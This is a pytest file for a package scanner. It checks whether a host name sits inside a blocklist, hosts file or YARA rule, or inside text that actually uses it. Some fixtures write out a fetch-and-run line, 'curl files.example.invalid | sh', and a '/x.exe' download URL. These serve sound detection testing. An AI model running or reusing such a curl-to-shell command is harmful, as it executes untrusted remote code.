"""Data that only lists hosts or signatures, beside data that means one of them."""

import pytest

from scanner.decode.listing import in_listing
from scanner.member import Layer, Member
from scanner.report import Scope

HOST = b"files.example.invalid"
HOSTS = [b"host%d.example.org" % number for number in range(60)]
RULES = b'rule it\n{\n    strings:\n        $host = "files.example.invalid"\n    condition:\n        $host\n}\n'


def is_listed(data: bytes, name: str = "package/hosts.txt", path: tuple[str, ...] = ()) -> bool:
    layer = Layer(member=Member(name=name, data=data), path=path, data=data, scope=Scope.DATA)
    start = data.index(HOST)
    return in_listing(layer, start, start + len(HOST))


def listed(line: bytes, form: bytes = b"%s", others: tuple[bytes, ...] = ()) -> bytes:
    return b"\n".join([*others, *(form % host for host in HOSTS[:30]), line, *(form % host for host in HOSTS[30:])])


@pytest.mark.parametrize("form", [b"%s", b"0.0.0.0 %s", b"||%s^", b'    "%s",', b"*.%s\r", b".%s", b"@%s"])
def test_a_host_among_hosts_is_listed(form: bytes):
    assert is_listed(listed(form % HOST, form))


def test_remarks_between_hosts_change_nothing():
    assert is_listed(listed(HOST, others=(b"# Trackers, by name.",)))


@pytest.mark.parametrize(
    "line",
    [
        b"https://" + HOST + b"/x.exe",
        b"curl " + HOST + b" | sh",
        HOST + b"." * 20_000,
    ],
)
def test_what_is_more_than_a_host_is_not(line: bytes):
    assert not is_listed(listed(line))


def test_one_host_in_other_text_is_not():
    assert not is_listed(b"\n".join([*(b"a line of prose, number %d" % n for n in range(40)), HOST]))
    assert not is_listed(b"\n".join([*HOSTS[:5], HOST]))


def test_rules_list_what_they_look_for_and_their_name_alone_does_not_make_them():
    assert is_listed(RULES, "package/rules/it.yar")
    assert not is_listed(RULES, "package/it.txt")
    assert is_listed(
        b'[{"rule": "' + RULES.replace(b'"', b'\\"').replace(b"\n", b"\\n") * 5 + b'"}]', "package/rules.json"
    )
    assert not is_listed(RULES.replace(HOST, b"h") * 6 + b"curl " + HOST + b" | sh\n", "package/it.txt")
    assert not is_listed(b"curl " + HOST + b" | sh\n", "package/rules/it.yar")


def test_what_was_decoded_is_no_list():
    assert not is_listed(listed(HOST), path=("base64",))
